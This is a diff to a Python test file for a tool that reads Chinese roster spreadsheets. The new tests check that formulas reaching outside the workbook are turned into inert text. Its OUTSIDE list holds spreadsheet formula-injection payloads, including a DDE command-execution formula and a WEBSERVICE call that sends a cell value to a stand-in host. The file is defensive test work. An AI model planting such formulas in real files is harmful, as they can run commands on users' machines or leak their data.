@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import openpyxl
 import pytest
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.formula import ArrayFormula
 
 from kapok.intake import read_folder
 
@@ -42,8 +44,8 @@ def test_rows_keep_their_numbers_and_say_what_happened(folder, tmp_path, vocabul
         "部分导入",
         "已跳过",
     ]
-    assert "身份证号 12 有 2 位" in sheet.cell(5, first + 1).value
-    assert "身份证号 12 有 2 位" in sheet["C5"].comment.text
+    assert "身份证号：12 有 2 位" in sheet.cell(5, first + 1).value
+    assert "12 有 2 位" in sheet["C5"].comment.text
     assert sheet.cell(6, first + 2).value == "只填数字，单位是元"
 
 
@@ -99,6 +101,68 @@ def test_nothing_that_begins_like_a_formula_runs(evil, folder, tmp_path, vocabul
                     ("=", "+", "-", "@", "\t")
                 ):
                     assert cell.quotePrefix
+
+
+OUTSIDE = [
+    "='[x.xlsx]A'!A1",
+    "=[1]Sheet1!A1",
+    "=cmd|'/c calc'!A0",
+    '=WEBSERVICE("http://example.invalid/"&A1)',
+    '=HYPERLINK("http://example.invalid")',
+    '=INDIRECT("[x.xlsx]A!A1")',
+    '=IMPORTXML("x","y")',
+]
+INSIDE = ["=SUM(Q4:Q5)", '=IF(A1>1,"a|b","c")', "=Sheet1!A1*2"]
+
+
+def test_formulas_that_reach_outside_become_text_and_others_stay(folder, tmp_path, vocabulary):
+    path = workbook(folder / "花名册.xlsx", "hiring_roster", [hire(id_no="12")])
+    book = openpyxl.load_workbook(path)
+    other = book.create_sheet("别的")
+    other.sheet_state = "hidden"
+    for n, formula in enumerate([*OUTSIDE, *INSIDE], 1):
+        other.cell(n, 1, formula)
+    book.defined_names["远处"] = DefinedName("远处", attr_text="'[x.xlsx]A'!$A$1")
+    book.defined_names["近处"] = DefinedName("近处", attr_text="别的!$A$1")
+    book.save(path)
+    [copy] = annotated(tmp_path, vocabulary)
+    back = openpyxl.load_workbook(copy)
+    cells = [back["别的"].cell(n, 1) for n in range(1, len(OUTSIDE) + len(INSIDE) + 1)]
+    assert [cell.value for cell in cells] == [*OUTSIDE, *INSIDE]
+    assert [cell.data_type for cell in cells] == ["s"] * len(OUTSIDE) + ["f"] * len(INSIDE)
+    assert all(cell.quotePrefix for cell in cells[: len(OUTSIDE)])
+    assert list(back.defined_names) == ["近处"]
+
+
+def test_an_array_formula_that_reaches_outside_becomes_text(folder, tmp_path, vocabulary):
+    path = workbook(folder / "花名册.xlsx", "hiring_roster", [hire(id_no="12")])
+    book = openpyxl.load_workbook(path)
+    book.active["V4"] = ArrayFormula("V4", "=SUM([x.xlsx]A!A1:A3)")
+    book.save(path)
+    [copy] = annotated(tmp_path, vocabulary)
+    cell = openpyxl.load_workbook(copy).active["V4"]
+    assert (cell.data_type, cell.value) == ("s", "=SUM([x.xlsx]A!A1:A3)")
+
+
+def test_the_copy_speaks_english_and_can_be_read_again(folder, tmp_path, vocabulary):
+    workbook(folder / "花名册.xlsx", "hiring_roster", [hire(), hire(id_no="12")])
+    (folder / "学员花名册.csv").write_text(
+        csv_text(
+            "training_allowance", [{"course": "P1", "name": "张三", "id_no": "12", "days": 3}]
+        ),
+        "utf-8",
+    )
+    intake = read_folder(folder, vocabulary)
+    copies = intake.write_annotated(tmp_path / "out", "en")
+    assert [copy.name for copy in copies] == ["学员花名册 (result).xlsx", "花名册 (result).xlsx"]
+    for copy, row in zip(copies, (2, 5), strict=True):
+        sheet = openpyxl.load_workbook(copy).active
+        first = sheet.max_column - 2
+        assert sheet.cell(row, first).value == "not taken"
+        assert "12 has 2 characters instead of 18" in sheet.cell(row, first + 1).value
+        assert sheet.cell(row, first + 2).value == "Complete it from the ID card"
+    again = read_folder(tmp_path / "out", vocabulary)
+    assert "column_unknown" not in again.kinds()
 
 
 def test_the_corrected_copy_can_be_read_again(folder, tmp_path, vocabulary):
